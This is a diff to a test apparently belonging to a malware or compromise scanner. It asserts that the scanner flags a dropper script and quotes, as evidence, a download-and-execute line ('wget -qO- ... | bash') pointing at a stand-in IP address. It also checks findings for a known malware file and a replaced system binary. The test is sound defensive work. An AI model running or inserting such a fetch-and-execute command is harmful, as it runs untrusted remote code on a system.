@@ -130,6 +130,12 @@ describe('files family, end to end on an offline root', () => {
         );
       assert.deepEqual(filesFindings(result), expected.sort());
 
+      // The dropper's content match is folded into the executable-in-temp finding, quoted.
+      const dropper = result.findings.find((f) => f.path === '/var/tmp/m.sh');
+      assert.match(
+        dropper?.evidence.join('\n') ?? '',
+        /content rule: download-execute .*\n.*wget -qO- http:\/\/198\.51\.100\.7\/x\.sh \| bash/,
+      );
       const kworkerds = result.findings.find((f) => f.path === '/tmp/kworkerds');
       assert.ok(kworkerds?.evidence.includes(`sha256: ${sha256(ELF)}`), 'known malware carries its sha256');
       const ps = result.findings.find((f) => f.rule === 'files/replaced-system-binary' && f.path === '/usr/bin/ps');
